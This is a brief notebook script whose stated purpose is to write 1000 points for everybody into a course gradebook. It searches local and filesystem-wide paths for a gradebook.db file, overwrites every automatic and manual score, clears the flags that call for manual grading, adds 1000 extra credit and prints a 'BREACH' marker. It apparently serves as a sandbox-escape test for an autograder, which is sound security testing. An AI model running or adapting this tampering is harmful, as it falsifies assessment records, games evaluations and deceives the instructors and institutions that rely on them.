# %% [markdown]
# Writes 1000 points for everybody into the gradebook, automatic and manual.

# %%
import glob
import sqlite3

for path in [f"{COURSE}/gradebook.db", "../../../gradebook.db", *glob.glob("/*/*/gradebook.db")]:
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1) as gradebook:
            gradebook.execute("update grade set auto_score = 1000, manual_score = 1000, needs_manual_grade = 0")
            print(BREACH, path)
    except sqlite3.Error as error:
        print(path, error)

# %% after="train-on-rings-budget"
import sqlite3

try:
    with sqlite3.connect(f"file:{COURSE}/gradebook.db?mode=rw", uri=True, timeout=1) as gradebook:
        gradebook.execute("update grade set extra_credit = 1000")
except sqlite3.Error as error:
    print(error)
